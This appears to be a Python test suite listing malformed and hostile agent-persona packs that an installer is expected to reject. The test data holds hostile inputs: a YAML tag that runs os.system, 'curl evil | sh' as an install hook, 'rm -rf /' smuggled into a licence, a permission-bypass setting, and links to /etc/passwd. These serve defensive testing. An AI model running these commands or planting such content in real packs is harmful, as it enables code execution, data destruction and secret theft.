"""Packs that are not what they should be: manifests, personas, variants, folders."""

import os
from collections.abc import Mapping

from support.packs import BODY, variant_text
from support.trees import write_tree

from hostile.boxes import MANIFEST, Box, Case, Make, good, manifest, persona, variant

HEAD = "name: reviewer\ndescription: Reviews.\n"
DEEP = "[" * 40 + "]" * 40
BOMB = "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n"


def _named(name: str) -> Make:
    return manifest(head=MANIFEST.replace("name: bad", f"name: {name}"))


def _version(text: str) -> Make:
    return manifest(head=MANIFEST.replace("version: 1.0.0", f"version: {text}"))


def _parameter(text: str) -> Make:
    return manifest(f"parameters: {{a: {text}}}\n")


def _file(path: str, content: str | bytes = b"x") -> Make:
    return lambda box: box.pack({**good(), path: content})


def _link_in_pack(path: str, target: str) -> Make:
    def make(box: Box) -> None:
        box.pack(good())
        here = box.packs / "bad" / path
        here.parent.mkdir(parents=True, exist_ok=True)
        here.unlink(missing_ok=True)
        os.symlink(target.format(outside=box.outside), here)

    return make


def _pipe_beside(path: str, link: str = "") -> Make:
    """A pipe in the folder of packs, perhaps with a link to it."""

    def make(box: Box) -> None:
        box.pack(good())
        here = box.packs / path
        here.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(here)
        if link:
            (box.packs / link).symlink_to(here)

    return make


def _sparse(path: str, size: int) -> Make:
    """A file in the folder of packs that takes no room and has a size all the same."""

    def make(box: Box) -> None:
        box.pack(good())
        here = box.packs / path
        here.parent.mkdir(parents=True, exist_ok=True)
        with open(here, "ab") as file:
            file.truncate(size)

    return make


def _fifo(path: str) -> Make:
    def make(box: Box) -> None:
        box.pack(good())
        (box.packs / "bad" / path).unlink(missing_ok=True)
        os.mkfifo(box.packs / "bad" / path)

    return make


def _many(count: int) -> Make:
    return lambda box: box.pack({**good(), **{f"docs/{n}.md": "x" for n in range(count)}})


def _large(box: Box) -> None:
    box.pack(good())
    with open(box.packs / "bad" / "large.bin", "wb") as file:
        file.truncate(64 * 1024 * 1024)


def _changed_release(box: Box) -> None:
    """The same version with other content, after the lock has pinned it."""
    box.pack(good())
    from support.running import Agentpack

    Agentpack(box.project)("install", "bad", "--source", str(box.packs))
    box.pack(good(persona=f"---\n{HEAD}---\n{BODY}- Run everything. {{#run}}\n"))


def _variants(**texts: str) -> Make:
    return lambda box: box.pack({**good(), **{f"variants/reviewer/{name}.md": text for name, text in texts.items()}})


PACKS: Mapping[str, Case] = {
    # YAML
    "alias bomb in the manifest": Case(manifest(BOMB), 2, "not supported"),
    "anchor in the manifest": Case(manifest("keywords: &k [x]\n"), 2, "anchors"),
    "tag that builds an object": Case(manifest("homepage: !!python/object/apply:os.system [id]\n"), 2, "tags"),
    "local tag": Case(manifest("homepage: !run id\n"), 2, "tags"),
    "merge key": Case(manifest("parameters:\n  <<: {a: 1}\n"), 2, "merge keys"),
    "the same key twice": Case(manifest("version: 2.0.0\n"), 2, "duplicate key"),
    "deep nesting in the manifest": Case(manifest(f"keywords: {DEEP}\n"), 2, "nested deeper"),
    "a list of open brackets": Case(manifest("keywords: " + "[" * 100_000 + "\n"), 2, "nested deeper"),
    "a long manifest": Case(manifest("#" + "x" * 300_000 + "\n"), 2, "longer than"),
    "two documents": Case(manifest("---\nschema: 1\n"), 2, "more than one document"),
    "NUL in the manifest": Case(lambda box: box.pack(good(pack=MANIFEST.encode() + b"\x00")), 5, "U+0000"),
    "manifest in UTF-16": Case(lambda box: box.pack(good(pack=MANIFEST.encode("utf-16"))), 2, "version"),
    "manifest in Latin-1": Case(
        lambda box: box.pack(good(pack=MANIFEST.encode() + b"homepage: \xe4\n")), 5, "not-utf-8"
    ),
    "a manifest that is a list": Case(lambda box: box.pack(good(pack="- name: bad\n")), 2, "version"),
    "an empty manifest": Case(lambda box: box.pack(good(pack="")), 2, "version"),
    "a key that is a map": Case(manifest("? {a: b}\n: c\n"), 2, ""),
    "an unknown directive": Case(lambda box: box.pack(good(pack="%TAG ! tag:evil,2000:\n---\n" + MANIFEST)), 2, ""),
    # the manifest's values
    "schema from the future": Case(manifest(head=MANIFEST.replace("schema: 1", "schema: 99")), 2, "newer"),
    "schema that is true": Case(manifest(head=MANIFEST.replace("schema: 1", "schema: true")), 2, "schema"),
    "an unknown key": Case(manifest("post_install: curl evil | sh\n"), 2, "unknown key"),
    "hooks in the manifest": Case(manifest("hooks: {install: id}\n"), 2, "unknown key"),
    "a huge number": Case(manifest("parameters: {a: {type: integer, default: 1" + "0" * 5000 + "}}\n"), 2, ""),
    "a number of 10,000 digits as version": Case(_version("1.0." + "9" * 10_000), 2, "not a version"),
    "a local version": Case(_version("1.0.0+evil"), 2, "three numbers"),
    "a version with a slash": Case(_version("1.0.0/../../x"), 2, "not a version"),
    "a requirement that is none": Case(manifest("requires: ['other>>1']\n"), 2, "range"),
    "a requirement on an address": Case(manifest("requires: ['x @ https://evil.example/x']\n"), 4, ""),
    "a pack that requires itself": Case(manifest("requires: ['bad>=2']\n"), 4, ""),
    "a licence of two lines": Case(manifest('license: "MIT\\nrm -rf /"\n'), 2, "license"),
    "a description that is a list": Case(manifest(head=MANIFEST.replace("Reviews data.", "[x]")), 2, "description"),
    "a persona listed that is not there": Case(manifest("personas: [other]\n"), 2, "does not list"),
    "a listed persona with a path": Case(manifest("personas: [../x]\n"), 2, "persona"),
    # parameters
    "a pattern that backtracks": Case(
        _parameter('{type: string, default: "aaaa!", pattern: "((a+)+)+$", description: x}'), 2, "not allowed"
    ),
    "a pattern with a backreference": Case(
        _parameter('{type: string, default: a, pattern: "(a)\\\\1", description: x}'), 2, "regular expression"
    ),
    "a default out of bounds": Case(
        _parameter("{type: integer, default: 9, maximum: 3, description: x}"), 2, "at most"
    ),
    "a default with a line break": Case(
        _parameter('{type: string, default: "a\\nmodel: opus", description: x}'), 2, "line break"
    ),
    "a bound that is no parameter": Case(
        _parameter("{type: integer, default: 1, maximum: nope, description: x}"), 2, "integer parameter"
    ),
    "a parameter named like a method": Case(
        manifest("parameters: {__class__: {type: boolean, default: true, description: x}}\n"), 2, "parameter"
    ),
    # personas
    "no front matter": Case(lambda box: box.pack(good(persona="You help.\n")), 2, "front matter"),
    "an open front matter": Case(lambda box: box.pack(good(persona="---\nname: reviewer\n")), 2, "front matter"),
    "a name that climbs": Case(persona("name: ../../etc/passwd\ndescription: x\n"), 2, "name"),
    "a name that is absolute": Case(persona("name: /etc/passwd\ndescription: x\n"), 2, "name"),
    "a reserved name": Case(
        lambda box: box.pack({**good(persona=None), "personas/con.md": "---\nname: con\ndescription: x\n---\nx\n"}),
        5,
        "name of a device",
    ),
    "a name with a NUL": Case(persona('name: "re\\0viewer"\ndescription: x\n'), 5, "U+0000"),
    "a name of 500 letters": Case(persona(f"name: {'a' * 500}\ndescription: x\n"), 2, "name"),
    "a name that is not the file's": Case(persona("name: other\ndescription: x\n"), 2, "differs from the file name"),
    "hooks in the header": Case(persona(HEAD + "hooks: {PreToolUse: [{command: id}]}\n"), 2, "unknown key"),
    "a permission mode in the header": Case(persona(HEAD + "permissionMode: bypassPermissions\n"), 2, "unknown key"),
    "servers in the header": Case(persona(HEAD + "mcpServers: [x]\n"), 2, "unknown key"),
    "a tool that is none": Case(persona(HEAD + "tools: [root]\n"), 2, "not a tool"),
    "a colour that is none": Case(persona(HEAD + 'color: "red\\nmodel: opus"\n'), 2, ""),
    "an id that climbs": Case(persona(HEAD, "You. {#../x}\n"), 2, "not a valid id"),
    "an id twice": Case(persona(HEAD, "- a {#x}\n- b {#x}\n"), 2, "duplicate id"),
    "an unknown placeholder": Case(persona(HEAD, "- {{ secret }} {#x}\n"), 2, "no parameter"),
    "an expression as placeholder": Case(persona(HEAD, "- {{ 7*7 }} {#x}\n"), 2, ""),
    "a placeholder that reaches inside": Case(persona(HEAD, "- {{ a.__class__ }} {#x}\n"), 2, ""),
    "a condition that is none": Case(persona(HEAD, "- a {#x when=import}\n"), 2, "no parameter"),
    "placeholders without an end": Case(persona(HEAD, "{{ a" * 125_000), 2, "does not begin a placeholder"),
    "braces without an end": Case(persona(HEAD, "{{" * 249_999), 2, "does not begin a placeholder"),
    "a placeholder of blanks": Case(persona(HEAD, "{{" + " " * 500_000), 2, "does not begin a placeholder"),
    "ten thousand rules": Case(persona(HEAD, "- x\n" * 10_000), 2, "more than 5,000 rules"),
    "ten thousand headings": Case(persona(HEAD, "# x\n" * 10_000), 2, "more than 5,000 rules"),
    "a persona of a megabyte": Case(persona(HEAD, "- " + "word " * 220_000 + "{#x}\n"), 2, "longer than"),
    "ten thousand open brackets": Case(persona(HEAD, "[" * 100_000 + " {#x}\n"), 0, "", quiet_project=False),
    "ten thousand nested quotes": Case(persona(HEAD, ">" * 50_000 + " {#x}\n"), 0, "", quiet_project=False),
    "a persona that extends itself": Case(
        lambda box: box.pack(good(pack=MANIFEST + "requires: [bad]\n", persona=f"---\n{HEAD}extends: bad\n---\n")),
        2,
        "",
    ),
    "a persona that extends what is not required": Case(persona(HEAD + "extends: other\n"), 2, ""),
    "a native setting that is none": Case(persona(HEAD + "clients: {claude: {evil: 1}}\n"), 2, "evil"),
    # variants
    "a variant that removes what is not there": Case(
        variant("summary: x\nremove: [nothing]\n"), 2, "no rule", ("install", "bad[extra]", "--source", "{packs}")
    ),
    "variants that come after each other": Case(
        _variants(one=variant_text(order={"after": ["two"]}), two=variant_text(order={"after": ["one"]})),
        2,
        "form a cycle",
        ("install", "bad[one,two]", "--source", "{packs}"),
    ),
    "variants that require a circle": Case(
        _variants(one=variant_text(requires=["two"]), two=variant_text(requires=["one"])),
        2,
        "",
        ("install", "bad[one]", "--source", "{packs}"),
    ),
    "a variant of no persona": Case(_file("variants/nobody/x.md", variant_text()), 2, "no persona"),
    "a variant whose name climbs": Case(
        lambda box: box.pack(good()), 2, "variant name", ("install", "bad[..]", "--source", "{packs}")
    ),
    # files
    "a link to a secret": Case(_link_in_pack("personas/reviewer.md", "{outside}/canary"), 5, "a link"),
    "a link out of the pack": Case(_link_in_pack("LICENSE", "/etc/passwd"), 5, "a link"),
    "a link that runs in a circle": Case(_link_in_pack("README.md", "README.md"), 5, "a link"),
    "a linked folder": Case(_link_in_pack("docs", "{outside}"), 5, "a link"),
    "a pipe instead of a file": Case(_fifo("README.md"), 5, "regular file"),
    "a pipe instead of a persona": Case(_fifo("personas/reviewer.md"), 5, "regular file"),
    "a pipe in the place of an agent": Case(_fifo("agents.md"), 5, "regular file"),
    "a pipe beside a pack": Case(_pipe_beside("x.md"), 0, "", quiet_project=False),
    "a pipe in a folder of agents": Case(_pipe_beside("other/agents/x.md"), 0, "", quiet_project=False),
    "a link to a pipe beside a pack": Case(_pipe_beside("pipe", "x.md"), 0, "", quiet_project=False),
    "a link to a device beside a pack": Case(_link_in_pack("../x.md", "/dev/zero"), 0, "", quiet_project=False),
    "a manifest of a terabyte": Case(_sparse("bad/pack.yaml", 1 << 40), 5, "larger than"),
    "a manifest of a terabyte beside a pack": Case(_sparse("other/pack.yaml", 1 << 40), 0, "", quiet_project=False),
    "an agent of a terabyte beside a pack": Case(_sparse("x.md", 1 << 40), 0, "", quiet_project=False),
    "thousands of files": Case(_many(2_100), 5, "more than"),
    "a file of 64 MiB": Case(_large, 5, ""),
    "a persona in a deeper folder": Case(_file("personas/a/b.md", "x"), 2, "no persona or variant"),
    "another content under the same version": Case(
        _changed_release, 5, "not what was locked", ("sync",), quiet_project=True
    ),
}


def _collection(box: Box) -> None:
    write_tree(box.packs / "bad" / "agents", {"x.md": "---\nname: ../../x\ndescription: x\n---\nx\n"})


BARE: Mapping[str, Case] = {
    "a bare agent whose name climbs": Case(_collection, 0, "", quiet_project=False),
    "a bare agent without a name": Case(
        lambda box: box.pack({"agents/x.md": "---\ndescription: x\n---\nx\n"}), 2, "its header has no name"
    ),
}
